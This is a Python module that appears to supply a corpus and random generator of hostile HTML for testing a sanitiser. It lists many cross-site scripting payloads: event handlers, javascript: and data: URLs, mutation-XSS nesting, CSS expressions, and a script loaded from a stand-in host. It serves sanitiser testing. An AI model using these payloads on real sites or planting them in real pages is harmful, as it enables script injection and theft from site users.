"""Markup that means harm, to be cleaned: shapes that got past one sanitiser or another, and pieces to make more of."""

import random

ATTACKS = (
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<SCRIPT/SRC=//x.example/a.js>", "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//", "<img src=\"x\"onerror=\"alert(1)\">", "<IMG \"\"\"><script>alert(1)</script>\">",
    "<img src=`x` onerror=alert(1)>", "<img\nsrc=x\nonerror\n=\nalert(1)>", "<img src=x onerror\x00=alert(1)>", "<img src=x oneonerrorrror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href=\" \x01javascript:alert(1)\">x</a>", "<a href=\"java\tscr\nipt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97vascript&colon;alert(1)\">x</a>", "<a href=\"&Tab;java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"vbscript:x\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">x</a>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<a href=\"\ufeffjavascript:alert(1)\">x</a>", "<area href=javascript:alert(1)>", "<video poster=javascript:alert(1)>",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">", "<source srcset=\"data:text/html,x 1x\">", "<blockquote cite=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>", "<form><form><input name=parentNode></form>",
    "<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>", "<svg onload=alert(1)//",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "<svg><desc><noscript><img title=\"</noscript><img src=x onerror=alert(1)>\"></desc>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">", "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<plaintext><img src=x onerror=alert(1)>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">", "<style>@import 'javascript:alert(1)';</style>", "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<select><style><img src=x onerror=alert(1)></style></select>",
    "<table><tr><td><svg><table><style><img src=x onerror=alert(1)>", "<p><table><caption><script>alert(1)</script></caption></table>",
    "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- a --!><img src=x onerror=alert(1)>-->",
    "<!-- <!-- --><img src=x onerror=alert(1)> -->", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!doctype html><img src=x onerror=alert(1)>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "</br/onload=alert(1)>", "</p onclick=alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">", "<p style=\"width:expression(alert(1))\">", "<p style=\"w\\69 dth:1;-moz-binding:url(x)\">",
    "<p style=\"background:url('/**/javascript:alert(1)')\">", "<p style=\"a:b}</style><script>alert(1)</script>\">",
    "<p style=\"background:url(https://x.example/;color:red)\">", "<p style='behavior:url(x.htc)'>", "<p style='color:\"</style><img src=x onerror=alert(1)>'>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=\"javascript:alert(1)\"></object>",
    "<object data=x.swf type=application/x-shockwave-flash><param name=movie value=x.swf></object>", "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>", "<base href=\"javascript:alert(1)//\">", "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<body onload=alert(1)>", "<html onclick=alert(1)>", "<frameset onload=alert(1)>",
    "<marquee onstart=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src onerror=alert(1)>", "<image src=x onerror=alert(1)>",
    "<x-y onclick=alert(1)>", "<a id=x tabindex=1 onfocus=alert(1)>", "<p data-hx-get=/steal data-hx-trigger=load>", "<p hx-on:load=alert(1)>",
    "<p title='a\"><img src=x onerror=alert(1)>'>", "<p title=\"`><img src=x onerror=alert(1)>\">", "<p title=</p><img/src=x/onerror=alert(1)>>",
    "<a href=\"x\" href=\"javascript:alert(1)\">", "<button popovertarget=x formaction=javascript:alert(1)>", "<a ping=https://x.example>",
    "<", "</", "<!", "<a", "<a href=\"", "<p title='", "<img src=x onerror=alert(1) ", "<\x00script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
)  # fmt: skip

_NAME_LIST = """
p div b a i table tr td th caption colgroup col ul li dl select option input textarea title button form svg math mtext mi mo annotation-xml
foreignObject desc style script noscript iframe noembed noframes xmp plaintext template object embed img image video audio source h1 pre
details summary fieldset frameset frame body html head meta link base br hr marquee mglyph malignmark ruby rt font section custom-x
"""
_NAMES = _NAME_LIST.split()
_ATTRIBUTES = (
    "onclick=alert(1)", 'onerror="alert(1)"', 'href="javascript:alert(1)"', 'href=" &#106;avascript:alert(1)"', "src=x", 'style="x:expression(alert(1))"',
    'src="data:text/html,<script>alert(1)</script>"', 'title="</textarea><img src=x onerror=alert(1)>"', 'title="--><img src=x onerror=alert(1)>"',
    "title='\"><script>alert(1)</script>'", 'class="a"', 'srcset="javascript:alert(1) 1x"', 'xlink:href="javascript:alert(1)"', 'formaction="javascript:alert(1)"',
    'srcdoc="<script>alert(1)</script>"', 'data-hx-on:load="alert(1)"', 'a"b=c', "x=`<`", '="', "/", "hidden", 'xmlns="http://www.w3.org/1999/xhtml"',
)  # fmt: skip
_PIECES = (
    "<!--", "-->", "--!>", "<!-->", "<![CDATA[", "]]>", "<!doctype html>", "<?xml ?>", "</", "<", "</ x>", ">", "&lt;script&gt;", "text", " ", "\n", "\x00",
    "&#0;", "<script", "</script", "</style>", "</title>", "</textarea>", "</noscript>", "<!-- wp:a -->", "`", "'", '"', "<a", '<p title="', "'>",
)  # fmt: skip


def made_up(rng: random.Random) -> str:
    """A text of up to fourteen pieces, most of them broken tags."""
    return "".join(_tag(rng) if rng.random() < 0.7 else rng.choice(_PIECES) for _ in range(rng.randint(1, 14)))


def _tag(rng: random.Random) -> str:
    name = rng.choice(_NAMES)
    if rng.random() < 0.35:
        return f"</{name}>"
    attributes = "".join(rng.choice(" \n/") + rng.choice(_ATTRIBUTES) for _ in range(rng.choice([0, 0, 1, 1, 2])))
    return f"<{name}{attributes}{rng.choice(['>', '>', '>', '/>', ' >', ''])}"
